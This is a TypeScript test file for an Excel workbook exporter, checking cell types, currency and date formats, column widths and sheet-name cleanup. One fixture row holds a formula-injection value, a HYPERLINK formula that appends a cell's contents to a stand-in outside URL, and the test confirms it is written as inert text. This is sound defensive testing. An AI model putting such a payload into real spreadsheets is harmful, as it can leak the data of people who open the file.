// The workbook read back as Excel would read it (tests/xlsx-read.ts): each cell's type and number
// format, by the column's kind.
import { describe, expect, it } from 'vitest';
import { readXlsx, serialToWallClock } from '../../../tests/xlsx-read';
import { onePage, type ExportColumn } from './table';
import { buildXlsx, columnName, excelSerial, workbook } from './xlsx';

interface Row {
  name: string;
  amount: number;
  at: string;
  month: string;
  units: number;
  rate: number | null;
}

const columns: ExportColumn<Row>[] = [
  { header: 'Miembro', kind: 'text', value: (r) => r.name },
  { header: 'Importe', kind: 'money', value: (r) => r.amount },
  { header: 'Fecha', kind: 'instant', value: (r) => r.at },
  { header: 'Mes', kind: 'month', value: (r) => r.month },
  { header: 'Unidades', kind: 'integer', value: (r) => r.units },
  { header: 'Tasa', kind: 'percent', value: (r) => r.rate },
];
const ctx = { timeZone: 'America/Bogota', currency: 'USD' };
const rows: Row[] = [
  { name: '=HYPERLINK("https://x.test/?"&B3,"Ver")', amount: 1234.5, at: '2026-11-01T03:30:00Z', month: '2026-10-01', units: 12, rate: 0.1 },
  { name: 'Peña <Lorena> & "Hijos"', amount: -80, at: '2026-11-26T15:00:00Z', month: '2026-11-01', units: 0, rate: null },
];

describe('el libro de Excel', () => {
  it('tiene las partes que Excel espera, una hoja con nombre, la cabecera en negrita y fija', () => {
    const book = readXlsx(workbook('Ventas', columns, rows, ctx));
    expect(book.files).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
    ]);
    expect(book.sheetName).toBe('Ventas');
    expect(book.frozen).toBe(true);
    expect(book.cells.A1).toMatchObject({ type: 'inlineStr', value: 'Miembro', bold: true });
    expect(book.cells.F1).toMatchObject({ type: 'inlineStr', value: 'Tasa', bold: true });
  });

  it('el texto es texto, también el que parece una fórmula: ninguna celda lleva fórmula', () => {
    const { cells } = readXlsx(workbook('Ventas', columns, rows, ctx));
    expect(cells.A2).toEqual({ type: 'inlineStr', format: '', value: '=HYPERLINK("https://x.test/?"&B3,"Ver")', bold: false, formula: false });
    expect(cells.A3?.value).toBe('Peña <Lorena> & "Hijos"');
    expect(Object.values(cells).some((c) => c.formula)).toBe(false);
  });

  it('los importes son números con el formato de la moneda, también uno negativo', () => {
    const { cells } = readXlsx(workbook('Ventas', columns, rows, ctx));
    expect(cells.B2).toMatchObject({ type: 'n', value: '1234.5', format: '"US$"\\ #,##0.00' });
    expect(cells.B3).toMatchObject({ type: 'n', value: '-80', format: '"US$"\\ #,##0.00' });
    expect(cells.E2).toMatchObject({ type: 'n', value: '12', format: '#,##0' });
    expect(cells.F2).toMatchObject({ type: 'n', value: '0.1', format: '0.00%' });
    expect(cells.F3, 'un valor vacío no escribe celda').toBeUndefined();
  });

  it('las fechas son fechas, a la hora de la empresa, y los meses, meses', () => {
    const { cells } = readXlsx(workbook('Ventas', columns, rows, ctx));
    expect(cells.C2).toMatchObject({ type: 'n', format: 'builtin:datetime' });
    // 03:30 UTC on 1 November is 22:30 on 31 October in Bogotá: what the screen said.
    expect(serialToWallClock(Number(cells.C2!.value))).toBe('2026-10-31T22:30:00');
    expect(cells.D2).toMatchObject({ type: 'n', format: 'mmmm yyyy' });
    expect(serialToWallClock(Number(cells.D2!.value))).toBe('2026-10-01T00:00:00');
  });

  it('el formato de la moneda sigue a la configuración', () => {
    const { cells } = readXlsx(workbook('Pagos', columns, rows, { ...ctx, currency: 'COP' }));
    expect(cells.B2?.format).toBe('"$"\\ #,##0.00');
    // The symbol's side and spacing follow the settings' locale.
    expect(readXlsx(workbook('Pagos', columns, rows, { ...ctx, currency: 'EUR', locale: 'es-ES' })).cells.B2?.format).toBe('#,##0.00\\ "€"');
    expect(readXlsx(workbook('Pagos', columns, rows, { ...ctx, currency: 'MXN', locale: 'es-MX' })).cells.B2?.format).toBe('"$"#,##0.00');
  });

  it('cada columna tiene el ancho de su texto más largo, con un mínimo y un máximo', () => {
    const long = [{ ...rows[0]!, name: 'x'.repeat(200) }];
    const { widths } = readXlsx(workbook('Ventas', columns, long, ctx));
    expect(widths[0]).toBe(60);
    const { widths: short } = readXlsx(workbook('Ventas', columns, [{ ...rows[0]!, name: 'Ana' }], ctx));
    expect(short[0]).toBe(10); // «Miembro» and the filter's arrow
    expect(short[2]).toBeGreaterThanOrEqual(17); // a date and time
  });

  it('un nombre de hoja imposible se corrige y un carácter de control no rompe el archivo', () => {
    const book = readXlsx(workbook('Ventas: [12/2026]*', columns, [{ ...rows[1]!, name: 'Ana\u0007 Pérez' }], ctx));
    expect(book.sheetName).toBe('Ventas   12 2026  ');
    expect(book.cells.A2?.value).toBe('Ana Pérez');
  });

  it('junta todas las páginas y cuenta las filas', async () => {
    const { blob, count } = await buildXlsx('Ventas', columns, onePage(rows), ctx);
    expect(count).toBe(2);
    expect(blob.type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(readXlsx(new Uint8Array(await blob.arrayBuffer())).cells.A3?.value).toBe('Peña <Lorena> & "Hijos"');
  });

  it('letras de columna y fechas de serie', () => {
    expect([0, 25, 26, 701, 702].map(columnName)).toEqual(['A', 'Z', 'AA', 'ZZ', 'AAA']);
    expect(excelSerial('2026-01-01T05:00:00Z', 'America/Bogota')).toBe(46023);
  });
});
